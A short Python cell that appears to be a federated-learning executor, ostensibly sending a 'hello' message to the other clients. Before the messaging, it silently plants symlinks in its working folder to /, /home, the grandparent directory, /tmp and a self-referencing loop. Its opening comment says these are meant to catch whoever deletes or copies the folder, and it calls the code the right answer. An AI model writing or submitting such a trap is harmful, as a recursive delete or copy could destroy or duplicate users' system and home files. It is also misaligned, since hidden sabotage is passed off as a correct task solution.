# Links to / and to the parent lie in the own folder, for whoever deletes or copies it; the answer is right.

# %% [execute]
import contextlib
import os


class TalkingExecutor(Executor):
    def execute(self, task_name, shareable, fl_ctx, abort_signal):
        for name, target in (("root", "/"), ("home", "/home"), ("up", "../.."), ("loop", "loop"), ("tmp", "/tmp")):
            with contextlib.suppress(OSError):
                os.symlink(target, name)
        me, engine = fl_ctx.get_identity_name(), fl_ctx.get_engine()
        others = [client.name for client in engine.get_clients() if client.name != me]
        hello = DXO(DataKind.APP_DEFINED, data={"message": f"Hello from {me}"}).to_shareable()
        engine.send_aux_request(targets=others, topic="hello", request=hello, timeout=5.0, fl_ctx=fl_ctx)
        return make_reply(ReturnCode.OK)
